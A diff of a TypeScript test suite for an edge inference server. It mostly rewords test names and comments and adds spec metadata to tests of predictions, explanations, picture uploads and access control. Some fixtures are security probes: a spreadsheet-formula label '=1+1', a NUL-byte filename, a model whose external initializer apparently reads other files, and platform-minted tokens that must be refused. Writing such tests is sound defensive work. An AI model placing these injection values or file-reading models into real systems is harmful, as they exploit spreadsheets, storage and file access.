@@ -29,18 +29,16 @@ import type { SentFile } from '@tessera/server'
 import sharp from 'sharp'
 import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
 import { formOf } from '../../../../../packages/server/src/testing/form-of.ts'
-import { run } from '../../db/open.ts'
 import type { Browser } from '../../testing/browser.ts'
 import { person } from '../../testing/fake-platform.ts'
 import { holdPredictions } from '../../testing/hold-predictions.ts'
 import { picture } from '../../testing/pictures.ts'
 import { buildWorld, peopleCsv, until, type World, zipOf } from '../../testing/world.ts'
-import { findDatasetByTable } from '../dataset/queries.ts'
+import { findDatasetByTable } from '../rows/queries.ts'
 import { resume } from './jobs.ts'
-import { checkKeptModels } from './models.ts'
 import { deleteInferenceRow, findInference, type StoredInference, updateInference } from './queries.ts'
 
-/** age (mean 50, deviation 10) and sex: older and male reads as ill. */
+/** age (mean 50, deviation 10) and sex: older and male rows are predicted as ill. */
 const file = modelFile('classes')
 const readingElsewhere = modelFile('external-initializer')
 const card = {
@@ -62,14 +60,23 @@ const card = {
   codeHash: 'x',
 }
 
-/** Of `file`, from its weights. */
+/** Coefficients of `file`, from its weights. */
 const coefficients = [
   { column: null, category: null, class: 'yes', estimate: -11.2 },
   { column: 'age', category: null, class: 'yes', estimate: 0.2 },
   { column: 'sex', category: 'm', class: 'yes', estimate: 2 },
   { column: 'sex', category: '', class: 'yes', estimate: 1 },
 ]
-const settled = { constant: [], collinear: [], separated: [], ridge: 0, converged: true, rows: 101 }
+const settled = {
+  constant: [],
+  collinear: [],
+  separated: [],
+  ridge: 0,
+  converged: true,
+  rows: 101,
+  averaged: 0,
+  changed: 0,
+}
 
 function modelFile(name: string): Buffer {
   return readFileSync(
@@ -104,12 +111,12 @@ beforeAll(async () => {
     file: modelFile('clusters'),
     card: { ...card, label: '', output: { kind: 'clusters', label: 'cluster', clusters: 2 } },
   })
-  const { input, ...former } = card
-  world.fake.models.set('of before', { file, card: { ...former, inputs: input.columns } })
   world.fake.models.set('texts', {
     file: modelFile('texts'),
     card: {
-      ...{ ...card, label: 'label_tone', columns: ['text'] },
+      ...card,
+      label: 'label_tone',
+      columns: ['text'],
       input: { kind: 'texts', name: 'c0', column: 'text', longest: 2000 },
       output: { kind: 'classes', label: 'label_tone', classes: ['calm', 'wild'] },
     },
@@ -117,7 +124,9 @@ beforeAll(async () => {
   world.fake.models.set('labels', {
     file: modelFile('labels'),
     card: {
-      ...{ ...card, label: 'tones', columns: ['text'] },
+      ...card,
+      label: 'tones',
+      columns: ['text'],
       input: { kind: 'texts', name: 'c0', column: 'text', longest: 2000 },
       output: { kind: 'labels', label: 'tones', classes: ['calm', 'wild'] },
     },
@@ -126,7 +135,9 @@ beforeAll(async () => {
   world.fake.models.set('labels, oddly named', {
     file: Buffer.from(named, 'latin1'),
     card: {
-      ...{ ...card, label: 'tones', columns: ['text'] },
+      ...card,
+      label: 'tones',
+      columns: ['text'],
       input: { kind: 'texts', name: 'c0', column: 'text', longest: 2000 },
       output: { kind: 'labels', label: 'tones', classes: ['=1+1', 'wild'] },
     },
@@ -134,7 +145,9 @@ beforeAll(async () => {
   world.fake.models.set('entities', {
     file: modelFile('entities'),
     card: {
-      ...{ ...card, label: 'tags', columns: ['tokens'] },
+      ...card,
+      label: 'tags',
+      columns: ['tokens'],
       input: { kind: 'tokens', name: 'c0', column: 'tokens', longest: 500, letters: 16 },
       output: { kind: 'entities', label: 'tags', classes: ['DRUG', 'WHO'] },
     },
@@ -142,7 +155,9 @@ beforeAll(async () => {
   world.fake.models.set('graph', {
     file: modelFile('graph'),
     card: {
-      ...{ ...card, label: 'label', columns: ['age'] },
+      ...card,
+      label: 'label',
+      columns: ['age'],
       input: { kind: 'graph', columns: [{ column: 'age', example: 50 }] },
       output: { kind: 'classes', label: 'label', classes: ['no', 'yes'] },
     },
@@ -150,7 +165,9 @@ beforeAll(async () => {
   world.fake.models.set('pictures', {
     file: modelFile('pictures'),
     card: {
-      ...{ ...card, label: 'tone', columns: ['file'] },
+      ...card,
+      label: 'tone',
+      columns: ['file'],
       input: { kind: 'pictures', name: 'c0', column: 'file', longest: 512, side: 224 },
       output: { kind: 'classes', label: 'tone', classes: ['cold', 'warm'] },
     },
@@ -158,7 +175,9 @@ beforeAll(async () => {
   world.fake.models.set('boxes', {
     file: modelFile('boxes'),
     card: {
-      ...{ ...card, label: 'boxes', columns: ['file'] },
+      ...card,
+      label: 'boxes',
+      columns: ['file'],
       input: { kind: 'pictures', name: 'c0', column: 'file', longest: 512, side: 64 },
       output: { kind: 'boxes', label: 'boxes', classes: ['blue', 'red'], least: 0.05, overlap: 0.5 },
     },
@@ -168,7 +187,12 @@ beforeAll(async () => {
   world.fake.models.set('imported', {
     file: Buffer.from(await adaptApart(modelFile('imported'), { ...described, columns: [['age', 'chol']], classes })),
     card: {
-      ...{ ...card, algorithm: '', codeHash: '', rounds: 0, label: 'biopsy', columns: ['age', 'chol'] },
+      ...card,
+      algorithm: '',
+      codeHash: '',
+      rounds: 0,
+      label: 'biopsy',
+      columns: ['age', 'chol'],
       input: {
         kind: 'table',
         columns: [
@@ -185,8 +209,7 @@ beforeAll(async () => {
     world.fake.models.set(modelId, { file, card })
   }
   world.fake.models.set('stealing', { file: readingElsewhere, card })
-  world.fake.models.set('swapped on the way', { file, card, logged: 'f'.repeat(64) })
-  world.fake.models.set('nameless', { file, card, logged: null })
+  world.fake.models.set('swapped in transit', { file, card, logged: 'f'.repeat(64) })
   world.fake.models.set('outgrowing', { file: modelFile('outgrows'), card })
   await world.connect()
   alice = await world.openSession('alice')
@@ -202,12 +225,12 @@ async function created(modelId = 'm1', as = person('alice')) {
 const statusOf = async (inferenceId: string, as = person('alice')) =>
   (await world.call(GetInference, { inferenceId }, as)).inference.status
 
-/** Where the file of a model lies. */
+/** Path of a model's file. */
 function keptFile(modelId: string): string {
   return join(world.dataDir, 'models', `${sha256Of(modelId).slice(0, 32)}.onnx`)
 }
 
-/** As a kill of the edge leaves a task that was at work. */
+/** Leaves an unfinished task as a killed edge does. */
 function interrupt(inferenceId: string, more: Partial<StoredInference>) {
   const inference = findInference(world.db, inferenceId) as StoredInference
   updateInference(world.db, { ...inference, status: 'running', ...more })
@@ -223,7 +246,9 @@ async function withDatasetResult(csv = 'age,sex\n1,m\n99,m\n', modelId = 'm1') {
   return { inferenceId, datasetId, file: join(world.dataDir, path), path }
 }
 
-test('a form is predicted at home; only the use of the model is told', async () => {
+test('predicts a form at the edge and reports only the use of the model', {
+  meta: { spec: ['entities.inference-job', 'calls.flModelInference/inference', 'calls.flModelInference/queryById'] },
+}, async () => {
   const inferenceId = await created()
   const before = await world.call(GetInference, { inferenceId })
   expect(before).toMatchObject({
@@ -249,28 +274,30 @@ test('a form is predicted at home; only the use of the model is told', async () 
   expect(JSON.stringify(world.fake.reports)).not.toContain('76543')
 })
 
-test('a model answers and explains without a task: nothing of it is on disk, but that it was asked in the log', async () => {
+test('answers and explains without a task, and stores nothing except the use in the log', {
+  meta: { spec: 'screens.try-model' },
+}, async () => {
   const before = world.call(ListInferences, {})
-  // With a point: hashes are full of digits.
-  const [asked, row] = [
+  // With a decimal point, because hashes contain many digits.
+  const [given, row] = [
     { age: 76541.28391, sex: 'm' },
     { age: 76542.28391, sex: 'f' },
   ]
-  const result = await world.call(InferOnce, { modelId: 'seen', rows: [asked, row] })
+  const result = await world.call(InferOnce, { modelId: 'seen', rows: [given, row] })
   expect(result.predictions.map(({ data, result }) => [data.age, result])).toEqual([
     [76541.28391, 'yes'],
     [76542.28391, 'yes'],
   ])
   const why = await world.call(ExplainOnce, { modelId: 'seen', row })
   expect(why).toMatchObject({ method: 'linear', class: 'yes' })
-  // Once more: of a day and a person the platform hears once.
+  // Again: the platform receives one report per day and user.
   await world.call(InferOnce, { modelId: 'seen', rows: [row] }, person('bob'))
   await world.call(InferOnce, { modelId: 'seen', rows: [row] })
 
   expect((await world.call(ListInferences, {})).total).toBe((await before).total)
-  const told = () => world.fake.reports.filter((one) => one.kind === 'model-use' && one.name === '')
-  await until(() => told().length === 2)
-  expect(told().map((one) => one.kind === 'model-use' && one.userId)).toEqual(['u-alice', 'u-bob'])
+  const reported = () => world.fake.reports.filter((one) => one.kind === 'model-use' && one.name === '')
+  await until(() => reported().length === 2)
+  expect(reported().map((one) => one.kind === 'model-use' && one.userId)).toEqual(['u-alice', 'u-bob'])
   const lines = readFileSync(join(world.dataDir, 'log/decisions.jsonl'), 'utf8').trim().split('\n')
   const entries = lines.map((line) => JSON.parse(line)).filter(({ data }) => data?.modelId === 'seen' && data.rows)
   expect(entries.slice(-4).map(({ data }) => data)).toEqual([
@@ -279,9 +306,9 @@ test('a model answers and explains without a task: nothing of it is on disk, but
     { userId: 'u-bob', modelId: 'seen', sha256: sha256Of(file), rows: 1 },
     { userId: 'u-alice', modelId: 'seen', sha256: sha256Of(file), rows: 1 },
   ])
-  const kept = readdirSync(world.dataDir, { recursive: true, withFileTypes: true }).filter((one) => one.isFile())
-  expect(kept.length).toBeGreaterThan(3)
-  for (const one of kept) {
+  const stored = readdirSync(world.dataDir, { recursive: true, withFileTypes: true }).filter((one) => one.isFile())
+  expect(stored.length).toBeGreaterThan(3)
+  for (const one of stored) {
     expect(readFileSync(join(one.parentPath, one.name)).includes('.28391'), one.name).toBe(false)
   }
 })
@@ -289,11 +316,17 @@ test('a model answers and explains without a task: nothing of it is on disk, but
 test.each([
   ['another party’s model', { modelId: 'nobody’s', rows: [{ age: 50, sex: 'm' }] }, 'model.not-found'],
   ['a row without a column', { modelId: 'm1', rows: [{ age: 50 }] }, 'inference.column-missing'],
-])('%s answers nothing without a task either', async (_what, input, code) => {
-  await expect(world.call(InferOnce, input)).rejects.toMatchObject({ code })
-})
+])(
+  'answers nothing for %s without a task, either',
+  { meta: { spec: 'screens.try-model' } },
+  async (_what, input, code) => {
+    await expect(world.call(InferOnce, input)).rejects.toMatchObject({ code })
+  },
+)
 
-test('“my tasks” asked of the edge are the inference tasks made at it, each for who may see it', async () => {
+test('the edge lists the inference tasks made at it as “my tasks”, for each user those they may see', {
+  meta: { spec: 'calls.flJobRecruit/listMyJob' },
+}, async () => {
   const inferenceId = await created()
   const ask = (input: Input<typeof ListMyTasksAtEdge>, as = person('alice')) => world.call(ListMyTasksAtEdge, input, as)
   const [card] = (await ask({ pageNo: 1, pageSize: 1 })).records
@@ -306,14 +339,14 @@ test('“my tasks” asked of the edge are the inference tasks made at it, each 
   expect((await ask({}, person('bob'))).records.map(({ id }) => id)).not.toContain(inferenceId)
 })
 
-test('of inference tasks whole results are read of one page alone, the newest first, also where a name is looked for', async () => {
+test('reads the full results of one page of inference tasks only, newest first, also when searching by name', async () => {
   const dora = person('dora')
   const made: string[] = []
   for (const name of ['ÄRZTE 1', 'ärzte 2', 'Ärzte 3', 'other', 'ärzte 4'])
     made.push(await world.call(CreateInference, { modelId: 'm1', name, description: 'd' }, dora))
   await until(async () => (await statusOf(made[4] ?? '', dora)) === 'created')
   for (const id of made) await until(async () => (await statusOf(id, dora)) !== 'creating')
-  // What nobody looks at is not taken apart: it could not be.
+  // These results are invalid JSON, so reading them would fail.
   const breakResult = world.db.prepare(`update inferences set result = '{' where id = ?`)
   for (const id of made.slice(0, 2)) breakResult.run(id)
   for (const endpoint of [ListInferences, ListMyTasksAtEdge]) {
@@ -330,7 +363,9 @@ test('of inference tasks whole results are read of one page alone, the newest fi
   world.db.prepare('delete from inferences where created_by_user_id = ?').run('u-dora')
 })
 
-test('a text is predicted and explained, and so is a dataset of texts, the wrong ones first', async () => {
+test('predicts and explains a text, and predicts a dataset of texts with the wrong ones first', {
+  meta: { spec: ['screens.inference-result-texts', 'calls.flModelInference/inference_nlp'] },
+}, async () => {
   const inferenceId = await created('texts')
   const { type, predictions } = await world.call(InferText, { inferenceId, text: 'b b B a' })
   expect(type).toBe('nlp')
@@ -350,7 +385,7 @@ test('a text is predicted and explained, and so is a dataset of texts, the wrong
   await world.call(InferDataset, { inferenceId, datasetId })
   await until(async () => (await statusOf(inferenceId)) === 'completed')
   expect(await world.call(GetInference, { inferenceId })).toMatchObject({
-    ...{ type: 'nlpCollection' },
+    type: 'nlpCollection',
     result: { rowCount: 10, header: ['text', 'label_tone'] },
   })
   const { records } = await world.call(ListPredictedRows, { inferenceId, pageNo: 1, pageSize: 3 })
@@ -361,7 +396,9 @@ test('a text is predicted and explained, and so is a dataset of texts, the wrong
   await world.call(DeleteInference, { inferenceId })
 })
 
-test('a text has any number of labels, each with its chance, and of a dataset the rows with most wrong ones come first', async () => {
+test('predicts any number of labels per text with their probabilities, and lists the rows with the most wrong labels first', {
+  meta: { spec: 'screens.multilabel-data' },
+}, async () => {
   const inferenceId = await created('labels')
   for (const [text, result] of [
     ['a a', 'calm'],
@@ -391,7 +428,9 @@ test('a text has any number of labels, each with its chance, and of a dataset th
   await until(async () => (await statusOf(inferenceId)) === 'completed')
   const { result } = await world.call(GetInference, { inferenceId })
   expect(result).toMatchObject({
-    ...{ type: 'nlpCollection', rowCount: 10, accuracy: 0.8 },
+    type: 'nlpCollection',
+    rowCount: 10,
+    accuracy: 0.8,
     summary: {
       results: [
         { name: 'calm', rows: 8 },
@@ -404,7 +443,7 @@ test('a text has any number of labels, each with its chance, and of a dataset th
     },
   })
   const { records } = await world.call(ListPredictedRows, { inferenceId, pageNo: 1, pageSize: 10 })
-  expect(records.map(({ data, result: said }) => [data.text, said]).slice(0, 3)).toEqual([
+  expect(records.map(({ data, result }) => [data.text, result]).slice(0, 3)).toEqual([
     ['x', ''],
     ['a b', 'calm, wild'],
     ['a', 'calm'],
@@ -415,7 +454,9 @@ test('a text has any number of labels, each with its chance, and of a dataset th
   await world.call(DeleteInference, { inferenceId })
 })
 
-test('a label that a spreadsheet would run is known as itself, in a list and where it is the only one', async () => {
+test('recognises a label that a spreadsheet would run, in a list and on its own', {
+  meta: { spec: 'screens.multilabel-data' },
+}, async () => {
   for (const cellOf of [(label: string) => [label], (label: string) => label]) {
     const inferenceId = await created('labels, oddly named')
     const lines = [
@@ -437,13 +478,17 @@ test('a label that a spreadsheet would run is known as itself, in a list and whe
   }
 })
 
-test('what is named in a text is told with its places, and of a dataset of tokens what was found of it', async () => {
+test('returns the entities of a text with their positions, and for a dataset of tokens what was found', {
+  meta: { spec: 'screens.inference-result-entities' },
+}, async () => {
   const inferenceId = await created('entities')
   const { type, predictions } = await world.call(InferText, { inferenceId, text: '今天 Ann Lee took Ibu.' })
   expect(type).toBe('nlp')
   expect(predictions).toMatchObject([
     {
-      ...{ kind: 'entities', text: '今天 Ann Lee took Ibu.', result: 'WHO: Ann Lee; DRUG: Ibu' },
+      kind: 'entities',
+      text: '今天 Ann Lee took Ibu.',
+      result: 'WHO: Ann Lee; DRUG: Ibu',
       entities: [
         { start: 3, end: 10, type: 'WHO' },
         { start: 16, end: 19, type: 'DRUG' },
@@ -451,8 +496,8 @@ test('what is named in a text is told with its places, and of a dataset of token
     },
   ])
   const row = { tokens: 'Ann slept' }
-  const { entities: told } = await world.call(ExplainRow, { inferenceId, row })
-  expect(told).toMatchObject([
+  const { entities } = await world.call(ExplainRow, { inferenceId, row })
+  expect(entities).toMatchObject([
     { start: 0, end: 3, type: 'WHO', pieces: [{ text: 'Ann ' }, { text: 'slept', effect: 0 }] },
   ])
   await expect(world.call(ExplainRow, { inferenceId, row }, person('bob'))).rejects.toMatchObject({
@@ -470,7 +515,9 @@ test('what is named in a text is told with its places, and of a dataset of token
   await until(async () => (await statusOf(inferenceId)) === 'completed')
   const { result } = await world.call(GetInference, { inferenceId })
   expect(result).toMatchObject({
-    ...{ type: 'nlpCollection', rowCount: 10, accuracy: null },
+    type: 'nlpCollection',
+    rowCount: 10,
+    accuracy: null,
     summary: {
       results: [
         { name: 'WHO', rows: 1 },
@@ -486,7 +533,9 @@ test('what is named in a text is told with its places, and of a dataset of token
   const { records } = await world.call(ListPredictedRows, { inferenceId, pageNo: 1, pageSize: 3 })
   expect(records[0]).toMatchObject({ text: 'Ibu for Bo', entities: [{ start: 0, end: 3, type: 'DRUG' }] })
   expect(records[1]).toMatchObject({
-    ...{ kind: 'entities', text: 'Ann Lee slept', entities: [{ start: 0, end: 7, type: 'WHO' }] },
+    kind: 'entities',
+    text: 'Ann Lee slept',
+    entities: [{ start: 0, end: 7, type: 'WHO' }],
     data: { tokens: '["Ann","Lee","slept"]' },
   })
   expect(records[2]).toMatchObject({ text: '=1+1', entities: [], result: '' })
@@ -498,8 +547,8 @@ test('what is named in a text is told with its places, and of a dataset of token
   await world.call(DeleteInference, { inferenceId })
 })
 
-describe('pictures that are sent', () => {
-  /** Red above, blue below; a camera may have held it in another way. */
+describe('uploaded pictures', () => {
+  /** Red above, blue below. The camera may have been rotated. */
   const warm = (orientation = 1) => {
     const [red, blue] = [
       [255, 0, 0],
@@ -521,7 +570,9 @@ describe('pictures that are sent', () => {
   const send = (inferenceId: string, files: SentFile[], as = person('alice')) =>
     world.call(InferImages, { inferenceId }, as, files)
 
-  test('are told in their order, upright, each with its name and itself; none is kept', async () => {
+  test('are predicted in order and upright, each with its name and picture, and none is stored', {
+    meta: { spec: 'calls.flModelInference/inferenceImages' },
+  }, async () => {
     const inferenceId = await created('pictures')
     const { type, predictions, rowCount } = await send(inferenceId, await sent())
     expect([type, rowCount]).toEqual(['vision', 4])
@@ -548,11 +599,15 @@ describe('pictures that are sent', () => {
     expect(JSON.stringify(findInference(world.db, inferenceId))).not.toContain(predictions[1]?.base64.slice(0, 40))
   })
 
-  test('are told as older clients read it', async () => {
+  test('are returned in the format of older clients', {
+    meta: { spec: 'calls.flModelInference/inferenceImages' },
+  }, async () => {
     const inferenceId = await created('pictures')
     const { headers, payload } = formOf({ id: inferenceId }, (await sent()).slice(0, 1))
     const answer = await world.app.inject({
-      ...{ method: 'POST', url: InferImages.path, payload },
+      method: 'POST',
+      url: InferImages.path,
+      payload,
       headers: { ...headers, ...(await alice.headers('POST', InferImages.path, payload)) },
     })
     expect(answer.json()).toMatchObject({ success: true, code: 200 })
@@ -569,49 +624,50 @@ describe('pictures that are sent', () => {
     ['too large ones', async () => ['a.png', 'b.png'].map((name) => ({ name, content: one })), 'file.too-many', params],
     ['one too large', async () => [{ name: 'a.png', content: Buffer.concat([one, one]) }], 'file.too-many', params],
     [
-      'a file of another ending',
+      'a file with another extension',
       async () => [{ name: 'a.gif', content: one }],
       'inference.picture-ending',
       { name: 'a.gif' },
     ],
     [
-      'one that is none, beside others',
+      'an invalid picture beside valid ones',
       async () => [...(await sent()), { name: 'note.png', content: Buffer.from('hello') }],
       ...(['inference.picture-broken', { name: 'note.png' }] as const),
     ],
     [
-      'one that breaks off',
+      'a truncated picture',
       async () => [{ name: 'half.jpg', content: (await cold().jpeg().toBuffer()).subarray(0, 900) }],
       ...(['inference.picture-broken', { name: 'half.jpg' }] as const),
     ],
-    [
-      'a name that no database keeps',
-      async () => [{ name: 'a\0.png', content: one.subarray(0, 9) }],
-      'request.nul',
-      {},
-    ],
-  ])('%s: refused, and the task waits for the next', async (_what, files, code, params) => {
-    const inferenceId = await created('pictures')
-    await expect(send(inferenceId, await files())).rejects.toMatchObject({ code, params })
-    expect(await statusOf(inferenceId)).toBe('created')
-  })
+    ['a name with a NUL', async () => [{ name: 'a\0.png', content: one.subarray(0, 9) }], 'request.nul', {}],
+  ])(
+    'refuses %s, and the task stays ready for the next request',
+    { meta: { spec: 'calls.flModelInference/inferenceImages' } },
+    async (_what, files, code, params) => {
+      const inferenceId = await created('pictures')
+      await expect(send(inferenceId, await files())).rejects.toMatchObject({ code, params })
+      expect(await statusOf(inferenceId)).toBe('created')
+    },
+  )
 
-  test('what is wrong is said in the caller’s language', async () => {
+  test("returns errors in the caller's language", {
+    meta: { spec: 'calls.flModelInference/inferenceImages' },
+  }, async () => {
     const inferenceId = await created('pictures')
     const { headers, payload } = formOf({ id: inferenceId }, [{ name: '附件.png', content: Buffer.from('hello') }])
     const say = async (language: string) => {
-      const asked = {
+      const all = {
         ...headers,
         ...(await alice.headers('POST', InferImages.path, payload)),
         'accept-language': language,
       }
-      return (await world.app.inject({ method: 'POST', url: InferImages.path, payload, headers: asked })).json().message
+      return (await world.app.inject({ method: 'POST', url: InferImages.path, payload, headers: all })).json().message
     }
     expect(await say('zh-CN')).toMatch(/^无法将“附件.png”读作图片。/)
     expect(await say('en')).toMatch(/^“附件.png” cannot be read as a picture\./)
   })
 
-  test('another model takes none; what is no form is told so', async () => {
+  test('refuses pictures for another model, and a request that is not a form', async () => {
     const inferenceId = await created()
     await expect(send(inferenceId, await sent())).rejects.toMatchObject({ code: 'inference.not-pictures' })
     const payload = { id: inferenceId }
@@ -625,7 +681,9 @@ describe('pictures that are sent', () => {
     expect([answer.statusCode, answer.json().error]).toEqual([400, 'request.form-broken'])
   })
 
-  test('only who may use the task has them told', async () => {
+  test('predicts them only for users who may use the task', {
+    meta: { spec: 'calls.flModelInference/inferenceImages' },
+  }, async () => {
     const inferenceId = await created('pictures')
     await expect(send(inferenceId, await sent(), person('bob'))).rejects.toMatchObject({ code: 'inference.not-found' })
     const stranger = person('eve', { partyId: '1002' })
@@ -635,8 +693,8 @@ describe('pictures that are sent', () => {
   })
 })
 
-test('boxes are told where they stand on the upright picture; of a dataset those with most wrong boxes come first', async () => {
-  /** 64 x 64, with a red square of 8 whose middle is that of a box of 48 x 32. */
+test("places boxes on the upright picture, and lists the dataset's pictures with the most wrong boxes first", async () => {
+  /** 64 x 64, with a red square of 8 pixels whose centre is that of a box of 48 x 32. */
   const red = (left: number, top: number) =>
     sharp({ create: { width: 64, height: 64, channels: 3, background: '#000000' } }).composite([
       { input: { create: { width: 8, height: 8, channels: 3, background: '#ff0000' } }, left, top },
@@ -654,7 +712,9 @@ test('boxes are told where they stand on the upright picture; of a dataset those
   expect([type, predictions[0]?.prediction]).toEqual([
     'yolo',
     {
-      ...{ kind: 'boxes', result: 'red 1', data: { name: 'lying.png' } },
+      kind: 'boxes',
+      result: 'red 1',
+      data: { name: 'lying.png' },
       boxes: [{ ...there, score: expect.closeTo(1, 3) }],
     },
   ])
@@ -663,8 +723,10 @@ test('boxes are told where they stand on the upright picture; of a dataset those
 
   const draft = await world.upload(
     await zipOf({
-      ...{ 'classes.txt': 'red\nblue\ngreen', 'images/1-lying.png': await lying() },
-      ...{ 'images/2-moved.png': await red(24, 48).png().toBuffer(), 'images/3-black.png': await picture('png') },
+      'classes.txt': 'red\nblue\ngreen',
+      'images/1-lying.png': await lying(),
+      'images/2-moved.png': await red(24, 48).png().toBuffer(),
+      'images/3-black.png': await picture('png'),
       'labels/1-lying.txt': '0 0.4375 0.3125 0.75 0.5\n2 0.4375 0.3125 0.75 0.5',
       'labels/2-moved.txt': '0 0.4375 0.3125 0.75 0.5',
     }),
@@ -676,7 +738,8 @@ test('boxes are told where they stand on the upright picture; of a dataset those
   expect(await world.call(GetInference, { inferenceId })).toMatchObject({
     type: 'yoloCollection',
     result: {
-      ...{ rowCount: 3, header: ['name', 'boxes'] },
+      rowCount: 3,
+      header: ['name', 'boxes'],
       summary: {
         boxes: [
           { type: 'blue', found: 0, there: 0, said: 0 },
@@ -699,9 +762,11 @@ test('boxes are told where they stand on the upright picture; of a dataset those
   await world.call(DeleteInference, { inferenceId })
 })
 
-test('a graph is told as the call has it, its neighbours counted, and so is a dataset that is one', async () => {
+test('predicts a graph in a request with its neighbours, and a dataset that is a graph', {
+  meta: { spec: 'screens.inference-result-graph' },
+}, async () => {
   const inferenceId = await created('graph')
-  // Young herself, and among the old.
+  // Young herself, but with old neighbours.
   const row = { x: '[[10],[90],[90],[90],[10]]', edge_index: '[[0,0,0],[1,2,3]]', id: '["young","a","b","c","lone"]' }
   const { type, header, predictions } = await world.call(Infer, { inferenceId, rows: [row] })
   expect({ type, header }).toEqual({ type: 'graph', header: ['node', 'age'] })
@@ -711,7 +776,8 @@ test('a graph is told as the call has it, its neighbours counted, and so is a da
     [{ node: 'lone', age: 10 }, 'yes'],
   ])
   await expect(world.call(Infer, { inferenceId, rows: [{ x: '[[1,2]]' }] })).rejects.toMatchObject({
-    ...{ code: 'inference.graph-wrong', params: { part: 'x' } },
+    code: 'inference.graph-wrong',
+    params: { part: 'x' },
   })
   await expect(world.call(ExplainRow, { inferenceId, row })).rejects.toMatchObject({ code: 'inference.why-graph' })
 
@@ -725,7 +791,8 @@ test('a graph is told as the call has it, its neighbours counted, and so is a da
   await world.call(InferDataset, { inferenceId, datasetId })
   await until(async () => (await statusOf(inferenceId)) === 'completed')
   expect(await world.call(GetInference, { inferenceId })).toMatchObject({
-    ...{ type: 'graphCollection', result: { rowCount: 6, header: ['age', 'label'] } },
+    type: 'graphCollection',
+    result: { rowCount: 6, header: ['age', 'label'] },
   })
   const { records } = await world.call(ListPredictedRows, { inferenceId, pageNo: 1, pageSize: 6 })
   expect(records.map(({ data, result }) => [data.id, result])).toEqual([
@@ -747,7 +814,7 @@ test('a graph is told as the call has it, its neighbours counted, and so is a da
   await world.call(DeleteInference, { inferenceId })
 })
 
-test('pictures beside their answers open only for whoever may read the rows, and only those that were answered', async () => {
+test('shows pictures beside their predictions only to users who may read the rows, and only those that were predicted', async () => {
   const draft = await world.upload(
     await zipOf({ 'calm/a.png': await picture('png'), 'wild/b.png': await picture('png') }),
   )
@@ -759,17 +826,15 @@ test('pictures beside their answers open only for whoever may read the rows, and
     const lines = ['id,name,ill,prediction,no,yes', '1,a.png,no,no,0.9,0.1'].map((line) => `${line}\r\n`)
     writeFileSync(join(world.dataDir, resultPath), lines.join(''))
     const result: InferenceResult = {
-      ...{
-        type: 'visionCollection',
-        header: ['name', 'ill'],
-        predictions: [],
-        resultPath,
-        rowCount: 1,
-        accuracy: null,
-      },
+      type: 'visionCollection',
+      header: ['name', 'ill'],
+      predictions: [],
+      resultPath,
+      rowCount: 1,
+      accuracy: null,
     }
-    const kept = findInference(world.db, inferenceId) as StoredInference
-    updateInference(world.db, { ...kept, status, datasetId, result })
+    const stored = findInference(world.db, inferenceId) as StoredInference
+    updateInference(world.db, { ...stored, status, datasetId, result })
     const page = world.call(ListPredictedRows, { inferenceId, pageNo: 1, pageSize: 5 }, person(name))
     const token = (await page).records[0]?.data.token
     const ofCell = (said: number) => world.call(ListPredictedRows, { inferenceId, truth: 0, said }, person(name))
@@ -783,7 +848,9 @@ test('pictures beside their answers open only for whoever may read the rows, and
   expect(await tokenFor('bob', 'completed')).toBeUndefined()
 })
 
-test('where the model looked in a picture of a dataset is told at the edge that holds it, to whom its rows are shown alone', async () => {
+test("shows which part of a dataset's picture the model used, at the edge that stores it and only to readers of its rows", {
+  meta: { spec: 'screens.inference-result-pictures' },
+}, async () => {
   const half = (left: number) =>
     sharp({ create: { width: 64, height: 64, channels: 3, background: '#0000ff' } })
       .composite([{ input: { create: { width: 32, height: 64, channels: 3, background: '#ff0000' } }, left, top: 0 }])
@@ -804,13 +871,13 @@ test('where the model looked in a picture of a dataset is told at the edge that 
   expect(shown.statusCode).toBe(200)
 
   const row = { name: 'left.png', file: shown.rawPayload.toString('base64') }
-  const { method, class: said, against, parts } = await world.call(ExplainRow, { inferenceId, row })
-  expect([method, said, against]).toEqual(['covered', 'warm', 'cold'])
-  // The model looks at the upper row: red there is warm, blue is cold.
+  const { method, class: predicted, against, parts } = await world.call(ExplainRow, { inferenceId, row })
+  expect([method, predicted, against]).toEqual(['covered', 'warm', 'cold'])
+  // The model uses the upper row: red there is warm, blue is cold.
   expect(parts?.effects.map(Math.sign)).toEqual([1, 1, 1, 1, -1, -1, -1, -1, ...Array.from({ length: 56 }, () => 0)])
 
   const bob = person('bob')
-  // One after the other: a refusal that comes while the other is waited for is nobody's.
+  // One after another: a rejection during another await would be unhandled.
   for (const ask of [
     () => world.call(ListPredictedRows, { inferenceId, pageNo: 1, pageSize: 5 }, bob),
     () => world.call(ExplainRow, { inferenceId, row }, bob),
@@ -826,16 +893,18 @@ test('where the model looked in a picture of a dataset is told at the edge that 
   await world.call(DeleteInference, { inferenceId })
 })
 
-test('with a token that the platform mints nobody asks a model, and none opens an input, an answer, a result or its file', async () => {
+test('a token signed by the platform can neither query a model nor open inputs, answers, results or files', {
+  meta: { claim: 'sessions.token-queries-model' },
+}, async () => {
   const { inferenceId, datasetId, path } = await withDatasetResult()
-  const kept = findInference(world.db, inferenceId)
+  const stored = findInference(world.db, inferenceId)
   const [row, rows, text] = [{ age: 50, sex: 'm' }, [{ age: 50, sex: 'm' }], 'a']
   const entries = world.decisions().length
   const existing = await world.call(ListInferences, {})
   for (const claims of [person('alice'), person('alice', { role: 'admin' }), person('ghost')]) {
     const minted = { token: await world.fake.edgeToken(claims) }
     const refused = { code: 'edge.session-required' }
-    for (const asked of [
+    for (const call of [
       () => world.call(GetAskedModel, { modelId: 'm1' }, minted),
       () => world.call(InferOnce, { modelId: 'm1', rows }, minted),
       () => world.call(ExplainOnce, { modelId: 'm1', row }, minted),
@@ -852,21 +921,23 @@ test('with a token that the platform mints nobody asks a model, and none opens a
       () => world.call(DeleteInference, { inferenceId }, minted),
       () => world.call(ListHeldDatasets, {}, minted),
     ]) {
-      await expect(asked()).rejects.toMatchObject(refused)
+      await expect(call()).rejects.toMatchObject(refused)
     }
     const file = await world.app.inject({ url: `/${path}`, headers: { 'x-access-token': minted.token } })
     const linked = await world.app.inject({ url: `/${path}?token=${await world.fake.edgeToken(claims)}` })
     expect([file.json().error, linked.json().error]).toEqual(['edge.session-required', 'edge.session-required'])
   }
   expect(world.decisions()).toHaveLength(entries)
-  expect(findInference(world.db, inferenceId)).toEqual(kept)
+  expect(findInference(world.db, inferenceId)).toEqual(stored)
   expect(await world.call(ListInferences, {})).toEqual(existing)
   await world.call(DeleteInference, { inferenceId })
 })
 
